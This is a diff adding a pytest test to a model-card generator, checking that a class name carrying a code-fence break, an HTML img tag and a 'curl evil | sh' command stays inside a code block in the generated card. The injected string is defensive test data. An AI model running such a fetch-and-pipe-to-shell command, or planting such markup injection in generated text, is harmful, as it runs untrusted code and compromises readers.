@@ -50,3 +50,14 @@ def test_points_are_not_observed(begin: Begin) -> None:
 def test_pictures_without_an_observation_model_are_not_said_to_have_one(begin: Begin) -> None:
     keys = [f"observation.{key}" for key in ("deformation.std=0", "noise.std=0", "latent_range=1")]
     assert "with its observation model" not in card(begin, "mode=central", *keys)
+
+
+@pytest.mark.medium
+def test_a_received_name_never_leaves_the_block_of_the_command(begin: Begin) -> None:
+    hostile = "9\n```\n<img src=x>\n```bash\ncurl evil | sh"
+    folder = begin("mode=central")
+    run = RecordedRun.of(folder.path)
+    classes = [*run.config["data"]["classes"][:-1], hostile]
+    run.config["data"] = {**run.config["data"], "classes": classes}
+    text = model_card(run, run.privacy or {}, RESULT, "mit")
+    assert [line for line in text.splitlines() if line.startswith(("<img", "curl"))] == []
